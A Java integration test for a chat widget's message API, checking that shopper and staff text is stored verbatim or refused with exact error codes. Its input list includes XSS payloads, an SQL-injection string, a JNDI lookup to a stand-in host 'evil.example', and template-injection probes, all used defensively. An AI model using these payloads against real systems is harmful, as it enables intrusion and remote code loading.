package dev.shopbell.badinput;

import static dev.shopbell.testkit.Refused.assertRefused;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.shopbell.customer.VisitorSecret;
import dev.shopbell.store.Store;
import dev.shopbell.testkit.DatabaseOwner;
import dev.shopbell.testkit.Given;
import dev.shopbell.testkit.Given.SignedIn;
import dev.shopbell.testkit.Http;
import dev.shopbell.testkit.Http.Answer;
import dev.shopbell.testkit.PostgresForTests;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/// What people and programs write, on both sides: kept to the letter or refused, never broken.
@QuarkusTest
@QuarkusTestResource(PostgresForTests.class)
class TextTest {

    private static final List<String> KEPT =
            List.of(
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "'; DROP TABLE message; --",
                    "${jndi:ldap://evil.example} {{7*7}} %s %n",
                    "\u202eevil\u202c \u2066left\u2069 مرحبا بالعالم",
                    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301",
                    "one\n\n\ttwo  three\u2028four",
                    "\u0007bell",
                    "\ufffd\uffff",
                    "a".repeat(10_000),
                    "👍".repeat(10_000));

    private static final Map<String, String> REFUSED =
            Map.of(
                    "",
                    "422 text_empty",
                    " \n\t ",
                    "422 text_empty",
                    "\u00a0\u2003\u3000",
                    "422 text_empty",
                    "\u200b\u2060\ufeff",
                    "422 text_empty",
                    "\u202e\u202c",
                    "422 text_empty",
                    "nul\0",
                    "422 text_invalid",
                    "\ud83d",
                    "422 text_invalid",
                    "\udc4d\ud83d",
                    "422 text_invalid",
                    "a".repeat(10_001),
                    "422 text_too_long",
                    "👍".repeat(10_001),
                    "422 text_too_long");

    private static final Pattern HALVES = Pattern.compile("\\p{Cs}");

    @Inject Given given;

    private Store store;
    private SignedIn agent;
    private VisitorSecret shopper;
    private UUID conversation;

    @BeforeEach
    void somebodyHasWritten() {
        store = given.store();
        agent = given.agent(store);
        shopper = given.secret();
        conversation = given.firstMessage(store, shopper, "Hello").conversation().id().value();
    }

    @Test
    void whateverPeopleWriteIsKeptToTheLetter() {
        for (String text : KEPT) {
            assertThat(said(fromShopper(UUID.randomUUID(), text))).isEqualTo(text);
            assertThat(said(fromStaff(UUID.randomUUID(), text, "staff"))).isEqualTo(text);
            assertThat(said(fromStaff(UUID.randomUUID(), text, "note"))).isEqualTo(text);
        }

        assertThat(texts(Http.get(shopperThread()).as(shopper)))
                .containsSubsequence(KEPT)
                .hasSize(1 + 2 * KEPT.size());
        assertThat(texts(Http.get(staffThread()).as(agent)))
                .containsSubsequence(KEPT)
                .hasSize(1 + 3 * KEPT.size());
    }

    @Test
    void whatSaysNothingOrCannotBeStoredIsRefusedAndLeavesNothingBehind() {
        Map<String, Long> before = DatabaseOwner.rowCounts();

        REFUSED.forEach((text, outcome) -> {
            for (Answer answer :
                    List.of(
                            fromShopper(UUID.randomUUID(), text),
                            fromStaff(UUID.randomUUID(), text, "staff"),
                            fromStaff(UUID.randomUUID(), text, "note"))) {
                assertRefused(answer, outcome);
                assertThat(answer.field()).isEqualTo("text");
            }
        });

        assertThat(DatabaseOwner.rowCounts()).isEqualTo(before);
    }

    @Test
    void aFirstMessageThatIsRefusedMakesNoCustomer() {
        VisitorSecret stranger = given.secret();
        Map<String, Long> before = DatabaseOwner.rowCounts();

        REFUSED.forEach((text, outcome) ->
                assertRefused(first(stranger, body(text).put("language", "en")), outcome));
        assertRefused(first(stranger, body("Hello")), "422 contact_email_required");
        assertRefused(first(stranger, body("Hello", "anna@")), "422 contact_email_incomplete");
        assertRefused(
                first(stranger, body("Hello", "a".repeat(255) + "@example.com")),
                "422 contact_email_too_long");

        assertThat(DatabaseOwner.rowCounts()).isEqualTo(before);
        assertRefused(Http.get(shopperThread()).as(stranger).send(), "401 unknown_visitor");
    }

    @Test
    void theSameIdWithAnotherBodyIsRefused() {
        UUID shoppers = UUID.randomUUID();
        UUID staffs = UUID.randomUUID();
        fromShopper(shoppers, "Once");
        fromStaff(staffs, "Once", "staff");
        Map<String, Long> before = DatabaseOwner.rowCounts();

        assertRefused(fromShopper(shoppers, "Twice"), "409 client_id_reused");
        assertRefused(fromStaff(staffs, "Twice", "staff"), "409 client_id_reused");
        assertRefused(fromStaff(staffs, "Once", "note"), "409 client_id_reused");
        assertRefused(fromStaff(shoppers, "Once", "staff"), "409 client_id_reused");
        assertRefused(fromShopper(staffs, "Once"), "409 client_id_reused");
        assertThat(DatabaseOwner.rowCounts()).isEqualTo(before);

        // The same but for outer blanks is the same.
        assertThat(said(fromShopper(shoppers, " Once\n"))).isEqualTo("Once");
        assertThat(said(fromStaff(staffs, "\u00a0Once", "staff"))).isEqualTo("Once");
        assertThat(DatabaseOwner.rowCounts()).isEqualTo(before);
    }

    @Test
    void aColleaguesIdIsNotTakenForOnesOwn() {
        SignedIn colleague = given.member(store, "Maya Lind", "Conversation management");
        UUID id = UUID.randomUUID();
        fromStaff(id, "Good day", "staff");

        String again = body("Good day").put("kind", "staff").toString();

        assertRefused(
                Http.put(staffMessage(id), again).as(colleague).send(), "409 client_id_reused");
    }

    private Answer fromShopper(UUID id, String text) {
        return Http.put(shopperMessage(id), json(body(text))).as(shopper).send();
    }

    private Answer fromStaff(UUID id, String text, String kind) {
        return Http.put(staffMessage(id), json(body(text).put("kind", kind))).as(agent).send();
    }

    private Answer first(VisitorSecret stranger, ObjectNode body) {
        String path =
                "/api/widget/%s/conversations/%s/messages/%s"
                        .formatted(store.key(), UUID.randomUUID(), UUID.randomUUID());
        return Http.put(path, json(body)).as(stranger).send();
    }

    private String shopperThread() {
        return "/api/widget/" + store.key() + "/conversation";
    }

    private String shopperMessage(UUID id) {
        return "/api/widget/%s/conversations/%s/messages/%s"
                .formatted(store.key(), conversation, id);
    }

    private String staffThread() {
        return "/api/staff/stores/%s/conversations/%s".formatted(store.id().value(), conversation);
    }

    private String staffMessage(UUID id) {
        return staffThread() + "/messages/" + id;
    }

    private static ObjectNode body(String text) {
        return JsonNodeFactory.instance.objectNode().put("text", text);
    }

    private static ObjectNode body(String text, String email) {
        ObjectNode body = body(text);
        body.putObject("contact").put("email", email);
        return body;
    }

    /// Half a character cannot travel as itself, only spelt out.
    private static String json(ObjectNode body) {
        return HALVES.matcher(body.toString())
                .replaceAll(half -> "\\\\u%04x".formatted((int) half.group().charAt(0)));
    }

    private static String said(Answer answer) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        return answer.json().path("message").path("text").asText();
    }

    private static List<String> texts(Http request) {
        return request.send()
                .json()
                .path("messages")
                .valueStream()
                .map(message -> message.path("text").asText())
                .toList();
    }
}
